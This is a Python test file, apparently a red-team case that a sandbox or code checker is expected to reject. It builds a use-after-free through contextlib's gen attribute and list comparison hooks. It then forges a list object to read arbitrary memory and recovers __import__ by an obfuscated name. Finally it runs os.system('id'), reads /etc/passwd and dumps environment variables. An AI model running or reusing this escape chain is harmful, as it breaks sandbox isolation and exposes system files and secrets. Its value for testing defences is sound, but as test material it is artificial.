# expect: reject memory
# line: 56
# why: round 93 (red team): contextmanager's object keeps the decorated function's return in gen, a name only a private class sets (library-held-attribute): SA.gen() was taken for the program's def gen
import contextlib

vl = []
KEEP = []
FAKE = [b""]


def q(v):
    return v.to_bytes(8, "little")


def fake_list(addr):
    # GC header, then a list: refcnt, type, size 1, ob_item = addr, allocated 1
    return (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(1) + q(addr) + q(1) + bytes(24))[:73]


def wipe():
    vl.clear()
    return 0


def fill():
    KEEP.append(bytearray(FAKE[0]))
    return 0


@contextlib.contextmanager
def hand_wipe():
    return wipe


@contextlib.contextmanager
def hand_fill():
    return fill


class Walker:
    def gen(self):
        return 1


SA = hand_wipe()
SB = hand_fill()


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        SA.gen()
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        SB.gen()
        return o


def peek(addr):
    FAKE[0] = fake_list(addr)
    vl.append(V())
    return (vl < [W()])[0]


bmod = peek(id(print) + 24)        # print.__self__: the builtins module
table = peek(id(bmod) + 16)        # its md_dict
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
